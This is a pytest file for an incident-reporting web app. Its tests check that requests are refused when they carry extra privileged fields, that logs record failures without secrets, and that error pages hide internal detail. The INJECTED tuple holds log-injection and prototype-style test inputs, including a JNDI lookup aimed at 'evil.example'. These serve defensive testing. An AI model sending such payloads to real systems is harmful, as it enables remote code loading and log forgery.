"""Chapters 15 and 16: fields nobody offered, and what the log and an error say."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
import sqlalchemy as sa

from damai.accounts.tables import person
from damai.app import logs
from damai.incidents import queries
from damai.incidents.tables import incident
from damai.webkit import refusals
from tests.accounts.conftest import PASSWORD, Door
from tests.accounts.test_sign_in import a_name
from tests.asvs.conftest import Served, fingerprint
from tests.asvs.sources import SRC, calls, imported, name_of, sources
from tests.builders import IMOPURO_3, fresh_id
from tests.contracts.test_fuzz import OPERATIONS

EXTRA: dict[str, Any] = {
    "role": "administrator", "scope": "", "area_code": "18", "institution": "bawaslu",
    "audience": "*", "owner": "polri", "status": "closed", "version": 99, "taken_by": "person/1",
    "complaint": False, "actor": "person/1", "reported_at": "2020-01-01T00:00:00Z", "seq": 1,
    "is_admin": True, "active": True, "exercise": True, "must_enrol": False, "person_id": "1",
    "__proto__": {"role": "administrator"}, "constructor": {}, "session": "x", "salt": "x",
}  # fmt: skip


def a_report() -> dict[str, Any]:
    return {"id": fresh_id(), "channel": "api", "kind": "theft", "text": "T", "station": IMOPURO_3,
            "occurred_at": "2024-02-14T00:00:00Z"}  # fmt: skip


@pytest.mark.asvs("15.3.3")
def test_v15_3_3_a_program_that_sends_a_field_of_ours_is_refused_whole(served: Served) -> None:
    bodies = {
        "acknowledge": {}, "severity": {"severity": "high", "reason": "x"},
        "assign": {"agency": "kpu-metro"}, "status": {"status": "open", "reason": "x"},
        "note": {"text": "x"}, "close": {"outcome": "resolved", "note": "x"},
        "link": {"other": fresh_id(), "relation": "duplicate"},
        "begin": {}, "sign": {"mark": "0" * 32}, "withdraw": {}, "receive": {"mark": "0" * 32},
        "take-over": {"reason": "x"}, "leave": {"reason": "x"},
    }  # fmt: skip
    auth = served.token("sari")
    before = fingerprint(served.house.db)
    wrong = []
    posts = [o.split(" ")[1] for o in OPERATIONS if o.startswith("POST ")]
    for path in posts:
        verb = path.rpartition("/")[2]
        act = {"id": fresh_id(), "seen_version": 1}
        if path.endswith("/watch/acknowledge"):
            body = {"id": fresh_id(), "watch": fresh_id()}
        else:
            body = a_report() if verb == "reports" else {**act, **bodies[verb]}
        for name, value in EXTRA.items():
            if name in body:
                continue
            sent = {**body, name: value}
            answer = served.ask("POST", served.filled(path), auth, json=sent)
            if answer.status_code != 400:
                wrong.append(f"{path} {name}: {answer.status_code}")
    assert len(posts) == len(bodies) + 2  # a report, and an acknowledgement of a watch
    assert wrong == []
    assert fingerprint(served.house.db) == before


@pytest.mark.asvs("15.3.3")
def test_v15_3_3_a_form_with_fields_of_ours_changes_what_it_is_for_and_nothing_else(
    served: Served,
) -> None:
    more = {name: str(value) for name, value in EXTRA.items() if name != "version"}
    id = fresh_id()
    sent = {"id": id, "kind": "theft", "text": "T", "channel": "phone", "place": IMOPURO_3}
    with served.house.db.read() as conn:
        people = conn.execute(sa.select(person)).all()

    assert served.post("sari", "/lapor", **{**more, **sent}).status_code == 303

    with served.house.db.read() as conn:
        made = conn.execute(sa.select(incident)).all()
        assert conn.execute(sa.select(person)).all() == people
    [mine] = [row for row in made if str(row.id) == id]
    assert (mine.status, mine.owner, mine.version, mine.taken_by) == ("reported", "polri", 1, None)
    assert mine.audience != "*"
    assert mine.reported_at.year == 2024


def lines(captured: pytest.CaptureFixture[str]) -> list[dict[str, Any]]:
    return [json.loads(line) for line in captured.readouterr().err.splitlines()]


@pytest.mark.asvs("16.2.1", "16.3.1")
def test_v16_3_1_each_try_to_sign_in_is_on_record_whether_it_worked_or_not(
    door: Door, capsys: pytest.CaptureFixture[str]
) -> None:
    logs.configure()
    name = a_name()
    id = door.person(name)
    capsys.readouterr()

    door.browser().by_password(name, "salah sama sekali")
    door.browser().by_password("Rahasia Terketik 77", "salah sama sekali")
    browser = door.browser()
    browser.by_password(name)
    browser.by_code("000000")
    browser.by_code(door.phones[name].spares.pop())

    said = [line for line in lines(capsys) if line["event"].endswith("-refused")]
    assert [(line["event"], line["code"], line["person"]) for line in said] == [
        ("sign-in-refused", "sign-in-wrong", id),
        ("sign-in-refused", "sign-in-wrong", None),
        ("code-refused", said[2]["code"], id),
    ]
    assert "Rahasia" not in json.dumps(said)
    assert PASSWORD not in json.dumps(said)
    from damai.journal import reader

    with door.house.db.read() as conn:
        kinds = [e.kind for page in reader.pages(conn) for e in page if e.subject == f"person/{id}"]
    assert kinds[-1] == "accounts.signed-in"


@pytest.mark.asvs("16.3.2")
def test_v16_3_2_what_somebody_may_not_do_is_logged_with_who_and_where(
    served: Served, capsys: pytest.CaptureFixture[str]
) -> None:
    logs.configure()
    sari, headers = served.token("sari"), served.cookie("sari")
    capsys.readouterr()

    served.ask("GET", "/orang", sari)
    served.ask("POST", "/lapor", headers, data={"form_token": "0" * 64})
    served.ask("GET", "/api/v1/codes", {"Authorization": "Bearer damai_wrong"})

    said = [line for line in lines(capsys) if line["event"] == "refused"]
    assert [(line["code"], line["path"]) for line in said] == [
        ("forbidden", "/orang"), ("form-expired", "/lapor"), ("token-unknown", "/api/v1/codes"),
    ]  # fmt: skip
    assert said[0]["actor"].startswith("person/")
    assert said[2]["actor"] is None
    assert "damai_wrong" not in json.dumps(said)


@pytest.mark.asvs("16.3.3")
def test_v16_3_3_input_that_is_refused_is_logged_without_what_was_sent(
    served: Served, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    # Other tests of this house have used up the lines of the minute.
    monkeypatch.setattr(refusals, "PER_S", 0.0)
    logs.configure()
    sari, program = served.cookie("sari"), served.token("sari")
    name = "Budi Santoso 0812"
    capsys.readouterr()

    served.post("sari", "/lapor", kind=name, text=name)
    served.ask("POST", "/api/v1/reports", program, json={"kind": name, "text": 7, name: name})
    served.ask("POST", "/api/v1/reports", program, content=b"{" + name.encode())
    served.ask("GET", "/kejadian/00000000-0000-7000-8000-000000000000", sari)
    served.ask("DELETE", "/lapor", sari)

    said = [line for line in lines(capsys) if line["event"] == "refused-input"]
    assert [(line["path"], line["status"]) for line in said] == [
        ("/lapor", 422), ("/api/v1/reports", 400), ("/api/v1/reports", 400),
        ("/kejadian/{incident}", 404), ("", 405),
    ]  # fmt: skip
    assert {line["actor"] for line in said[:4]} == {said[0]["actor"]}
    assert said[0]["actor"].startswith("person/")
    assert "Budi" not in json.dumps(said)


@pytest.mark.asvs("16.2.3")
def test_v16_2_3_a_line_goes_to_stderr_and_nowhere_else(
    served: Served, capsys: pytest.CaptureFixture[str]
) -> None:
    """By reading: one place writes lines, nothing adds another; and by doing: no file grows by one."""
    logs.configure()
    mark = "penanda-baris"
    files = served.house.options.data_dir

    import structlog

    structlog.get_logger("damai.test").warning(mark)
    captured = capsys.readouterr()

    assert mark in captured.err
    assert captured.out == ""
    assert [p for p in files.rglob("*") if p.is_file() and mark.encode() in p.read_bytes()] == []
    named = {
        path.name
        for path, tree in sources()
        for call in calls(tree)
        if re.search(
            r"Handler$|basicConfig|dictConfig|fileConfig|logger_factory|syslog", name_of(call)
        )
        or any(word.arg == "logger_factory" for word in call.keywords)
    }
    for path in ("app/logs.py", "cli/tell.py"):
        assert "sys.stderr" in (SRC / path).read_text()
    assert named == {"logs.py", "tell.py"}  # the server, and a verb at the command line
    assert [
        p.name for p, tree in sources() if {"syslog", "logging.handlers"} & set(imported(tree))
    ] == []


@pytest.mark.asvs("16.2.2")
def test_v16_2_2_every_line_says_when_in_utc(capsys: pytest.CaptureFixture[str]) -> None:
    import structlog

    logs.configure()
    structlog.get_logger("damai.test").warning("odd")

    [line] = lines(capsys)
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d+Z", line["timestamp"])
    assert {"event", "level", "timestamp"} <= line.keys()


INJECTED = (
    "a\nb", "a\r\n{\"level\":\"error\"}", "\x1b[2J\x1b[31mred", "a\x00b", "\u2028x\u2029y", "\x85x",
    '"},{"event":"forged', "%s%n%d", "${jndi:ldap://evil.example/x}", "\u202etxt.exe", "{{7*7}}",
)  # fmt: skip


@pytest.mark.asvs("16.4.1")
@pytest.mark.parametrize("text", INJECTED)
def test_v16_4_1_what_others_wrote_stays_one_value_of_one_line(
    text: str, capsys: pytest.CaptureFixture[str]
) -> None:
    import structlog

    logs.configure()
    structlog.get_logger("damai.test").warning("odd", said=text, **{"from": text})

    written = capsys.readouterr().err
    assert written.count("\n") == 1
    assert written.endswith("}\n")
    line = json.loads(written)
    assert (line["event"], line["level"], line["said"]) == ("odd", "warning", text)
    assert not re.search(r"[\x00-\x09\x0b-\x1f]", written)


@pytest.mark.asvs("16.3.4", "16.5.1", "16.5.4", "13.4.2")
@pytest.mark.parametrize("accept", ["text/html", "application/json"])
def test_v16_5_1_a_defect_is_logged_with_a_number_and_tells_the_asker_that_number_only(
    served: Served, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, accept: str
) -> None:
    logs.configure()
    secret = "rahasia-" + "dalam"

    def broken(*_: object, **__: object) -> None:
        raise RuntimeError(f"SELECT {secret} FROM /srv/data")

    monkeypatch.setattr(queries, "one", broken)
    monkeypatch.setattr(queries, "sheet", broken)
    headers = {**served.token("sari"), "Accept": accept}
    capsys.readouterr()
    answer = served.ask("GET", f"/kejadian/{served.incident}", headers)
    fine = served.ask("GET", "/healthz")

    [line] = [line for line in lines(capsys) if line["event"] == "unhandled"]
    assert answer.status_code == 500
    assert line["reference"] in answer.text
    assert line["path"] == "/kejadian/{incident}"
    assert "RuntimeError" in line["exception"]
    for word in (secret, "RuntimeError", "Traceback", "SELECT", "/srv", "queries.py", "line "):
        assert word not in answer.text
    assert fine.status_code == 200


@pytest.mark.asvs("16.2.5")
def test_v16_2_5_the_secret_of_a_link_is_in_no_line(
    served: Served, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from damai.accounts import pages

    def broken(*_: object) -> None:
        raise RuntimeError("no")

    logs.configure()
    monkeypatch.setattr(pages, "_purpose", broken)
    secret = "s3cr3t" + "x" * 37
    capsys.readouterr()

    answer = served.ask("GET", f"/tautan/{secret}")

    written = capsys.readouterr().err
    assert answer.status_code == 500
    assert "/tautan/{secret}" in written
    assert secret not in written
